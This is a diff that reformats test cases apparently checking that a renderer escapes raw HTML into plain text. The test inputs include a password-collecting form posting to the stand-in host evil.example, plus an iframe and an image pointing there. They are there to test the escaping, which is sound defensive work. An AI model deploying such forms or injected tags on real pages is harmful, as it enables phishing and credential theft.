@@ -21,11 +21,15 @@ SHOWN_AS_TEXT = [
         '<p>&lt;img src="https://evil.example/x.png" alt="x"&gt;</p>',
     ),
     (
-        '<form action="https://evil.example/login" method="post"><input name="password"><button>Sign in</button></form>',
+        '<form action="https://evil.example/login" method="post">'
+        '<input name="password"><button>Sign in</button></form>',
         '<p>&lt;form action="https://evil.example/login" method="post"&gt;&lt;input name="password"&gt;'
         "&lt;button&gt;Sign in&lt;/button&gt;&lt;/form&gt;</p>",
     ),
-    ('<iframe src="https://evil.example/"></iframe>', '<p>&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;</p>'),
+    (
+        '<iframe src="https://evil.example/"></iframe>',
+        '<p>&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;</p>',
+    ),
     (
         "Before\n\n<div>a block with <b>bold</b></div>\n\nAfter",
         "<p>Before</p>\n<p>&lt;div&gt;a block with &lt;b&gt;bold&lt;/b&gt;&lt;/div&gt;</p>\n<p>After</p>",
